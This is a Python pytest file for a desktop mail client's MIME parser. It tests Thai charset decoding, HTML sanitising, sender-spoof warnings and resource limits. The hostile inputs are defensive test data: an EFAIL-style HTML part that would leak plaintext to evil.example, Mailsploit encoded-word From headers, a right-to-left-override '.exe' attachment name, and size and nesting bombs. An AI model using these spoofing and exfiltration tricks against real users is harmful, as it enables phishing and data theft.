"""mime.parse: Thai charsets, safe plain text, spoof warnings, and bounded cost on hostile input.

The Thai samples are tests/data (their expected text is in seed.json); the
hostile ones are generated here (spoofed senders, hidden characters, bombs of
size and nesting, deceptive attachment names) or read from the public corpora
(tests/corpora.py says where; they are never copied into the repository).
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from govmail_desktop.mime import body_text as T
from govmail_desktop.mime import header_text as H
from govmail_desktop.mime import parse as P
from govmail_desktop.mime import parse_message
from govmail_desktop.mime import preview_warnings as W
from tests.corpora import corpus_id, corpus_messages, corpus_params, require_corpora

DATA = Path(__file__).resolve().parents[2] / "data"
MANIFEST = json.loads((DATA / "seed.json").read_text(encoding="utf-8"))["messages"]


def sample(name: str) -> bytes:
    return (DATA / name).read_bytes()


# ---------------------------------------------------------------- the Thai samples


@pytest.mark.parametrize("entry", MANIFEST, ids=[e["file"] for e in MANIFEST])
def test_every_sample_decodes_to_its_thai_text(entry):
    parsed = parse_message(sample(entry["file"]))
    expect = entry["expect"]
    assert parsed.subject == expect["subject"]
    assert parsed.from_[0].name == expect["from_name"]
    assert "@" in parsed.from_[0].email
    for snippet in expect["body_contains"]:
        assert snippet in parsed.text
    assert "\ufffd" not in parsed.text  # no replacement characters: every charset understood
    names = [a.filename for a in parsed.attachments if a.content_type != "message/rfc822"]
    assert names == expect.get("attachments", [])
    if "nested" in expect:
        for snippet in expect["nested"]["body_contains"]:
            assert snippet in parsed.text
        assert expect["nested"]["subject"] in parsed.text


@pytest.mark.parametrize(
    "label",
    ["windows-874", "x-windows-874", "WINDOWS-874", "tis-620", "TIS620", "iso-8859-11", "ISO_8859-11", "cp874",
     "x-cp874", '"tis-620"', "utf-8*th".replace("utf-8", "tis-620")],
)
def test_every_thai_label_is_read_as_cp874(label):
    assert P.codec_for(label) == "cp874"
    assert P.decode_bytes(b"\x93\xc3\xe8\xd2\xa7\x94\x85", label) == "“ร่าง”…"


def test_unknown_and_non_text_codecs_are_not_used():
    assert P.codec_for("x-unknown-charset") is None
    assert P.codec_for("base64_codec") is None  # bytes→bytes codecs never decode mail
    assert P.codec_for("rot13") is None
    assert P.decode_bytes("ภาษาไทย".encode(), "x-unknown-charset") == "ภาษาไทย"  # UTF-8 guess
    assert P.decode_bytes("ภาษาไทย".encode("cp874"), None) == "ภาษาไทย"  # not UTF-8 → Thai legacy


def test_windows874_outlook_quotes_and_ellipsis():
    parsed = parse_message(sample("04-windows874-outlook.eml"))
    assert parsed.subject == "ส่ง “ร่างคำสั่ง” แต่งตั้งคณะทำงาน"
    assert "“ร่างคำสั่ง”" in parsed.text and "เรียบร้อยแล้ว…" in parsed.text


def test_rfc2047_words_split_inside_a_character_are_joined():
    word = "ประชุม".encode()
    first, second = word[:4], word[4:]  # cut inside a 3-byte UTF-8 character
    import base64

    header = (
        f"=?UTF-8?B?{base64.b64encode(first).decode()}?=\r\n "
        f"=?UTF-8?B?{base64.b64encode(second).decode()}?= ครั้งที่ ๒"
    )
    assert H.decode_words(header) == "ประชุม ครั้งที่ ๒"
    assert H.decode_words("=?tis-620?Q?=BB=C3=D0=AA=D8=C1?=") == "ประชุม"
    assert H.decode_words("plain =?utf-8?q?a_b?= end") == "plain a b end"


def test_the_html_only_message_is_sanitised_text_without_remote_content():
    raw = sample("07-html-remote-images.eml")
    # Keep only the HTML alternative: the preview must then convert it.
    start = raw.index(b"--=_rel_2569\nContent-Type: text/html")
    end = raw.index(b"--=_rel_2569\nContent-Type: image/png")
    html_part = raw[start + len(b"--=_rel_2569\n") : end]
    head = raw[: raw.index(b"Content-Type: multipart/alternative")]
    parsed = parse_message(head + html_part)
    assert parsed.text_source == "html"
    assert "กิจกรรมวันเด็กแห่งชาติ" in parsed.text
    for remote in ("images.example.com", "track.example.net", "cid:", "url(", "@import", "srcset"):
        assert remote not in parsed.text, remote
    assert W.W_HTML_SIMPLIFIED in parsed.warnings


def test_plain_text_is_preferred_over_html():
    parsed = parse_message(sample("07-html-remote-images.eml"))
    assert parsed.text_source == "plain"
    assert "<" not in parsed.text


def test_each_part_is_converted_on_its_own():
    """EFAIL-style: an unclosed attribute in one HTML part cannot swallow the next part."""
    raw = (
        b"From: a@agency.go.th\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=X\n\n"
        b"--X\nContent-Type: text/html\n\n<a href=\"http://evil.example/?\n"
        b"--X\nContent-Type: text/plain\n\nSECRET-PLAINTEXT\n"
        b"--X\nContent-Type: text/html\n\n<p>tail\">end</p>\n--X--\n"
    )
    parsed = parse_message(raw)
    assert "SECRET-PLAINTEXT" in parsed.text
    assert "evil.example/?SECRET" not in parsed.text.replace("\n", "")
    assert parsed.text.count(P.PART_SEPARATOR.strip()) == 1  # tail part stands alone after a separator


def test_attachments_are_listed_and_deceptive_names_flagged():
    parsed = parse_message(sample("09-dangerous-attachments.eml"))
    assert [a.suspicious_name for a in parsed.attachments] == [False, True, True]
    assert parsed.attachments[2].display_name == "รายงาน<U+202E>fdp.exe"
    assert W.W_ATTACHMENT_NAME in parsed.warnings
    pdf = parse_message(sample("08-attachment-pdf.eml")).attachments[0]
    assert pdf.filename == "หนังสือเชิญประชุม.pdf" and pdf.content_type == "application/pdf"
    import email

    real = [p for p in email.message_from_bytes(sample("08-attachment-pdf.eml")).walk()
            if p.get_content_type() == "application/pdf"][0].get_payload(decode=True)
    assert abs(pdf.size - len(real)) <= 3


def test_forwarded_message_is_shown_with_its_own_headers():
    parsed = parse_message(sample("10-forwarded-rfc822.eml"), lang="en")
    assert "---------- Forwarded message ----------" in parsed.text
    assert "From: งานอาคารสถานที่ <building@agency.mail.go.th>" in parsed.text
    assert "forwarded.eml" in [a.filename for a in parsed.attachments]


# ---------------------------------------------------------------- From spoofing


def spoof(from_lines: str) -> P.ParsedMessage:
    return parse_message(f"{from_lines}\nSubject: x\n\nbody\n".encode())


def test_the_real_address_is_kept_beside_a_name_that_looks_like_an_address():
    parsed = spoof('From: "admin@agency.go.th" <x@evil.example>')
    assert parsed.from_[0].email == "x@evil.example"
    assert W.W_FROM_NAME_IS_OTHER_ADDRESS in parsed.sender_warnings


def test_an_encoded_word_cannot_invent_an_address():
    # Mailsploit: the encoded name decodes to "admin@legit.go.th>" + NUL.
    parsed = spoof("From: =?utf-8?b?YWRtaW5AbGVnaXQuZ28udGg+AA==?= <attacker@evil.example>")
    assert parsed.from_[0].email == "attacker@evil.example"
    assert "\x00" not in parsed.from_[0].name
    assert W.W_FROM_NAME_IS_OTHER_ADDRESS in parsed.warnings
    encoded_address = spoof("From: abc <=?utf-8?q?admin=40legit=2ego=2eth=3e?=@evil.example>")
    assert W.W_FROM_MALFORMED in encoded_address.sender_warnings
    assert "=?utf-8?q?" in encoded_address.from_[0].email  # shown undecoded, never as admin@legit


def test_several_from_headers_and_several_addresses_are_flagged():
    assert W.W_SEVERAL_FROM in spoof("From: a@agency.go.th\nFrom: b@evil.example").sender_warnings
    both = spoof("From: <any@attack.example>admin@legit.go.th")
    assert W.W_FROM_SEVERAL_ADDRESSES in both.sender_warnings
    assert W.W_FROM_MISSING in parse_message(b"Subject: x\n\nbody\n").sender_warnings
    assert spoof("From: =?utf-8?b?4Liq4Lih4LiK4Liy4Lii?= <somchai@agency.go.th>").sender_warnings == ()


def test_control_characters_in_names_are_removed_and_flagged():
    parsed = spoof("From: =?utf-8?q?Bank=0D=0ASupport?= <a@b.example>")
    assert parsed.from_[0].name == "BankSupport"
    assert W.W_HIDDEN_CHARACTERS in parsed.warnings


# ---------------------------------------------------------------- bounded cost


def bounded(parsed: P.ParsedMessage) -> P.ParsedMessage:
    assert len(parsed.text) <= P.MAX_TEXT_CHARS + len(T.TRUNCATION_MARK) * 4
    assert all(len(line) <= T.MAX_LINE_CHARS for line in parsed.text.split("\n"))
    return parsed


def test_a_100_mb_single_line_is_cut_before_parsing():
    raw = b"From: a@agency.go.th\nContent-Type: text/plain\n\n" + b"a" * 100_000_000
    cut, truncated = P.bound_input(raw)
    assert truncated and len(cut) <= P.MAX_PARSE_BYTES
    assert max(len(line) for line in cut.split(b"\n")) <= P.MAX_LINE_BYTES
    parsed = bounded(parse_message(raw))
    assert parsed.truncated and parsed.text.startswith("aaaa")


def test_megabytes_of_whitespace_collapse():
    raw = b"From: a@agency.go.th\n\nstart\n" + b" \t \n" * 3_000_000 + b"end\n"
    parsed = bounded(parse_message(raw))
    assert parsed.text.startswith("start")
    one_line = bounded(parse_message(b"From: a@b.example\n\nstart" + b" " * 20_000_000 + b"end\n"))
    assert one_line.text.startswith("start")


def test_very_long_urls_in_text_and_html():
    url = "http://a.b/c?d=" * 32000
    text = bounded(parse_message(f"From: a@b.example\n\nsee {url}\n".encode()))
    assert text.text.startswith("see http://a.b/c?d=")
    html = bounded(parse_message(
        f'From: a@b.example\nContent-Type: text/html\n\n<p>link <a href="{url[:200_000]}">here</a> ok</p>\n'.encode()
    ))
    assert "here" in html.text and len(max(html.text.split("\n"), key=len)) <= T.MAX_LINE_CHARS


def nested_multiparts(depth: int) -> bytes:
    head, tail = b"", b""
    for i in range(depth):
        head += b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (i, i)
        tail = b"\n--b%d--\n" % i + tail
    return b"From: a@b.example\nSubject: deep\n" + head + b"Content-Type: text/plain\n\ninnermost text\n" + tail


@pytest.mark.parametrize("depth", [50, 150, 5000])
def test_deep_mime_nesting_still_shows_the_text(depth):
    parsed = bounded(parse_message(nested_multiparts(depth)))
    assert parsed.subject == "deep"
    assert "innermost text" in parsed.text
    if depth > P.MAX_CONTAINERS:
        assert W.W_TOO_DEEP in parsed.warnings


def test_deeply_nested_forwarded_messages():
    raw = b"From: a@b.example\nSubject: x\n" + (
        b"Content-Type: message/rfc822\n\nFrom: x@y.example\nSubject: y\n" * 3000
    ) + b"Content-Type: text/plain\n\nhello\n"
    assert "hello" in bounded(parse_message(raw)).text


def test_huge_header_parameters_are_cut():
    params = b"".join(b';\n p%d="v;%d"' % (i, i) for i in range(100_000))
    raw = b"From: a@b.example\nContent-Type: text/plain" + params + b"\n\nhello\n"
    cut, truncated = P.bound_input(raw)
    assert truncated and len(cut) < 2 * P.MAX_FIELD_BYTES
    assert "hello" in parse_message(raw).text


def test_html_with_pathological_markup_is_reduced_to_text():
    for html in ("<div>" * 100_000 + "deep", "<style>" * 150_000, "<" * 1_000_000 + "x"):
        parsed = bounded(parse_message(b"From: a@b.example\nContent-Type: text/html\n\n" + html.encode()))
        assert "<div>" not in parsed.text and "<style>" not in parsed.text
    assert "deep" in parse_message(
        b"From: a@b.example\nContent-Type: text/html\n\n" + b"<div>\n" * 100_000 + b"deep"
    ).text


def test_tidy_text_collapses_blank_lines_and_breaks_long_lines():
    text, cut = T.tidy_text("a\r\n\r\n\r\n\r\n\r\n\r\nb " + "x" * 5000, 100_000)
    assert not cut
    assert text.split("\n")[:4] == ["a", "", "", "b " + "x" * (T.MAX_LINE_CHARS - 2)]
    short, cut = T.tidy_text("ก" * 50, 10)
    assert cut and short == "ก" * 10 + T.TRUNCATION_MARK


# ---------------------------------------------------------------- public hostile corpora

def split_mbox(data: bytes) -> list[bytes]:
    messages: list[bytes] = []
    current: list[bytes] = []
    for line in data.split(b"\n"):
        if line.startswith(b"From ") and current:
            messages.append(b"\n".join(current))
            current = []
        if not (line.startswith(b"From ") and not current):
            current.append(line)
    if current:
        messages.append(b"\n".join(current))
    return messages


def test_the_corpora_are_there():
    require_corpora()
    assert len(corpus_messages()) > 300


@pytest.mark.parametrize("path", corpus_params(corpus_messages()), ids=corpus_id)
def test_every_corpus_message_parses_within_bounds(path):
    data = path.read_bytes()
    messages = split_mbox(data) if path.suffix == ".mbox" else [data]
    for raw in messages:
        parsed = bounded(parse_message(raw))
        assert isinstance(parsed.subject, str) and "\n" not in parsed.subject
        for address in parsed.from_:
            assert not any(ch in address.name for ch in "\x00\r\n")
